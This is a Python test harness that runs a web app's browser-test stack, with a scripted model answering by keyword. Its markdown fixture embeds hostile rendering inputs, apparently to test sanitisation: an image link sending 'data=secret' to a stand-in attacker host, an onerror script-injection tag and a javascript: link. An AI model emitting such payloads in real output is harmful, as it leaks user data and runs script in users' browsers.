"""A stack for the web app's browser tests: `python -m tests.browser_stack --port P`, until it is told to end.

Its scripted model answers by a word of the message, so a test in another language can ask for what it needs; `--real`
takes the embedded model instead.
"""

from __future__ import annotations

import argparse
import contextlib
import signal
import tempfile
import threading
from pathlib import Path

from infra.local.ports import Place
from tests.e2e.stack import Stack
from tests.scripted_model.scripts import READING, REVIEW, Asked, Fault, Script, Scripts, Stream, Structured, obliging
from tests.scripted_model.server import ScriptedModel

# Whoever has lost everything waits for 20 seconds.
_RESET_DAYS = 20 / 86_400
_WORDS = ("the", "sea", "lies", "calm", "and", "grey", "below", "a", "wide", "northern", "sky")
MARKDOWN = """\
# Waves

A wave has a *length* $\\lambda$ and a **speed** $v$, with $$v = \\lambda f$$

| wave | speed |
|---|---|
| sound | 343 m/s |
| light | 299 792 458 m/s |

```python
def speed(length: float, frequency: float) -> float:
    return length * frequency
```

See [the sea](https://example.org/sea) and ![a tracker](https://evil.example/pixel.png?data=secret).

<img src=x onerror="document.title='broken'"> [click](javascript:alert(1))
"""


def _paced(words: int, per_second: float) -> Stream:
    deltas = tuple(f"{_WORDS[n % len(_WORDS)]} " for n in range(words))
    return Stream(deltas=deltas, usage=(50, words), delay=1 / per_second)


_STREAMS: dict[str, Script] = {
    "slowly": _paced(160, 20),
    "flood": _paced(3000, 300),
    "essay": _paced(1200, 400),
    "markdown": Stream(deltas=tuple(MARKDOWN[n : n + 7] for n in range(0, len(MARKDOWN), 7)), delay=0.005),
    "cut short": Stream(deltas=("It begins ", "and then"), fault="cut"),
    "unavailable": Fault(status=503),
}


def by_word(asked: Asked) -> Script:
    """What the latest message's words ask for."""
    if asked.schema == "Reading":
        harm = 9 if "harmful" in asked.text else 0
        mate = "nuo" if "wave" in asked.text else "tavi"
        return Structured(content={**READING, "harm": harm, "mate": mate})
    if asked.schema == "Review":
        misuse = 10 if "withhold" in asked.text else 7 if "dubious" in asked.text else 0
        return Structured(content={**REVIEW, "misuse": misuse})
    return next((stream for word, stream in _STREAMS.items() if word in asked.text), obliging(asked))


def main() -> None:
    parser = argparse.ArgumentParser(prog="python -m tests.browser_stack")
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--real", action="store_true", help="the embedded model answers")
    given = parser.parse_args()
    over = threading.Event()
    for number in (signal.SIGTERM, signal.SIGINT):
        signal.signal(number, lambda *_: over.set())
    with contextlib.ExitStack() as ending:
        state = ending.enter_context(tempfile.TemporaryDirectory(prefix="sealmate-browser-"))
        model: dict[str, str] = {}
        if not given.real:
            scripted = ending.enter_context(ScriptedModel(Scripts(by_word)))
            model = {"SEALMATE_MODEL_URL": scripted.url, "SEALMATE_MODEL_NAME": "scripted", "SEALMATE_MODEL_KEY": "key"}
        stack = Stack(place=Place(state=Path(state), front=given.port), model=model, reset_days=_RESET_DAYS)
        ending.callback(stack.down)
        stack.up()
        print(f"up at {stack.url}", flush=True)  # noqa: T201
        over.wait()


if __name__ == "__main__":
    main()
